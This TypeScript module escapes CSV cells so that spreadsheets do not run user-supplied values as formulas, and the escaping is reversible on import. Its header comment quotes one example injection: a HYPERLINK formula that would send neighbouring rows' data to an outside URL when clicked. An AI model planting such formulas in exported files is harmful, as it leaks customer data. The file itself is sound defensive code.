/**
 * A spreadsheet (Excel, LibreOffice Calc) opening a CSV runs a cell that begins with
 * = + - @, a tab or a carriage return as a formula. Account values come from customers (the
 * kiosk's contact change, an inquiry) and from files: a company typed as
 * `=HYPERLINK("https://…/?"&D2&E2,"詳細")` would, in a clerk's export, send the neighbouring
 * rows away when clicked. The guard is OWASP's: an apostrophe in front, which the spreadsheet
 * reads as "this is text" and does not show.
 *
 * Made reversible so an exported file imports back unchanged (a phone `+81 3 …` stays
 * `+81 3 …`): a value that already begins with apostrophes before such a character gets one
 * more, and `unguardFormula` takes exactly one away. Every other value is left as it is.
 *
 * Also after leading white space (a space, U+3000, a line break: some spreadsheets drop it
 * before reading the cell) and for the full-width ＝ ＋ － ＠ (Japanese Excel turns them into
 * their ASCII forms as it reads a cell). `\s` holds U+3000 and U+FEFF.
 */
const formulaStart = String.raw`(?:[\t\r]|\s*[=+\-@＝＋－＠])`;
const runsAsFormula = new RegExp(`^'*${formulaStart}`);
const guardedFormula = new RegExp(`^'+${formulaStart}`);

/** The text to write in a CSV cell so that no spreadsheet runs it. */
export function guardFormula(text: string): string {
  return runsAsFormula.test(text) ? `'${text}` : text;
}

/** A CSV cell's text as it was before `guardFormula` (a cell nobody guarded comes back as it is). */
export function unguardFormula(text: string): string {
  return guardedFormula.test(text) ? text.slice(1) : text;
}

/**
 * A CSV cell for a file people open in a spreadsheet (exports, audit, rejected rows): always
 * quoted, quotes doubled, guarded against formulas; the import reads it back as it was.
 */
export function csvCell(value: string | number | null): string {
  return `"${guardFormula(value === null ? '' : String(value)).replace(/"/g, '""')}"`;
}
